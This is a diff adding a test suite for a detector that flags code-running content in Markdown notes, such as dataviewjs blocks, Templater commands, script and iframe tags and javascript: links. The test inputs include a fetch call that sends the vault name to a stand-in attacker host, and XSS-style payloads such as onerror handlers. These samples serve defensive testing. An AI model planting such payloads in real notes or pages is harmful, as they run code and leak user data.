@@ -1,0 +1,85 @@
+import { describe, expect, it } from 'vitest'
+import { executableBlocks, executableNotices } from './executable-blocks.js'
+
+const found = (text: string) => executableBlocks(text).map(({ what, line }) => `${line} ${what}`)
+
+describe('executable text', () => {
+  it.each([
+    ['```dataviewjs\nfetch("https://evil.test/" + app.vault.getName())\n```\n', '1 dataviewjs block'],
+    ['text\n\n> [!note]\n> ```dataviewjs\n> x\n> ```\n', '4 dataviewjs block'],
+    ['- item\n  ~~~ DataviewJS\n  x\n  ~~~\n', '2 dataviewjs block'],
+    ['```{js-engine}\nx\n```\n', '1 js-engine block'],
+    ['```button\nname x\ntype command\n```\n', '1 button block'],
+    ['```meta-bind-js-view\nx\n```\n', '1 meta-bind-js-view block'],
+    ['```run-python\nx\n```\n', '1 run-python block'],
+    ['a `$= 1+1` b', '1 inline dataviewjs'],
+    ['<%* tp.file.delete %>', '1 Templater command'],
+    ['```\n<% tp.date.now() %>\n```\n', '2 Templater command'],
+    ['---\ntitle: <% tp.file.title %>\n---\n', '2 Templater command'],
+    ['a\n<%* never closed', '2 Templater command'],
+    ['x <script src="a.js"></script>', '1 script tag'],
+    ['x\n\n<ScRiPt\n>alert(1)</script>\n', '3 script tag'],
+    ['<iframe src="data:text/html;base64,PHN2Zz4="></iframe>', '1 iframe tag with a data address'],
+    ["<iframe title='>' src='java\nscript:x'>", '1 iframe tag with a script address'],
+    ['<iframe srcdoc="<p>x</p>"></iframe>', '1 iframe tag with a document of its own'],
+    ['<img alt=">" src=x onerror=alert(1)>', '1 img tag with an event handler'],
+    ['[x](javascript:alert(1))', '1 script link'],
+  ])('is found in %j', (text, expected) => {
+    expect(found(text)).toContain(expected)
+  })
+
+  it.each([
+    '```dataview\nLIST\n```\n',
+    '```tasks\nnot done\n```\n',
+    '```js\nfetch("x")\n```\n',
+    '```buttons are nice\n```\n',
+    'a `dataviewjs` b `= this.x` c `x $= y`',
+    '````md\n```dataviewjs\nx\n```\n````\n',
+    '`<script>` and ```` <iframe src="data:x"> ````',
+    '    <script>indented code</script>\n',
+    'costs $5 = 5$, a<b, <b>bold</b>, <iframe src="https://example.org/v"></iframe>',
+    '<img src="data:image/png;base64,AAAA">',
+    '[x](https://example.org/?javascript)',
+  ])('is not found in %j', (text) => {
+    expect(found(text)).toEqual([])
+  })
+
+  it('raises nothing for what was there before, wherever it stands now', () => {
+    const block = '```dataviewjs\nx\n```\n'
+    expect(executableNotices('a.md', `# A\n${block}end\n`, `# A\n\nmore\n\n${block}the end\n`)).toEqual([])
+    expect(executableNotices('a.md', block.replaceAll('\n', '\r\n'), block)).toEqual([])
+  })
+
+  it('names what a change adds, and where', () => {
+    const block = '```dataviewjs\nx\n```\n'
+    const text = 'Adds text to a.md that plugins or browsers run as code: dataviewjs block (line 4).'
+    expect(executableNotices('a.md', block, block + block)).toEqual([{ kind: 'executable', text }])
+  })
+
+  it('raises a block that was edited, uncovered or given a language', () => {
+    for (const [before, after] of [
+      ['```dataviewjs\nx\n```\n', '```dataviewjs\ny\n```\n'],
+      ['````\n```dataviewjs\nx\n```\n````\n', '```dataviewjs\nx\n```\n'],
+      ['```js\nx\n```\n', '```dataviewjs\nx\n```\n'],
+    ]) {
+      expect(executableNotices('a.md', before, after)).toHaveLength(1)
+    }
+  })
+
+  it('names ten and counts the rest', () => {
+    const [notice] = executableNotices('a.md', '', '`$=1`\n'.repeat(25))
+    expect(notice.text).toContain('(line 10), and 15 more.')
+  })
+
+  it.each([
+    ['<%', 400_000],
+    ['<a ', 400_000],
+    ['<a "', 300_000],
+    ['<a onx', 200_000],
+    ['](  ', 300_000],
+    ['`$=', 300_000],
+    ['```dataviewjs\n', 50_000],
+  ])('answers for %j, repeated', (piece, times) => {
+    executableNotices('a.md', piece.repeat(times / 2), piece.repeat(times))
+  })
+})
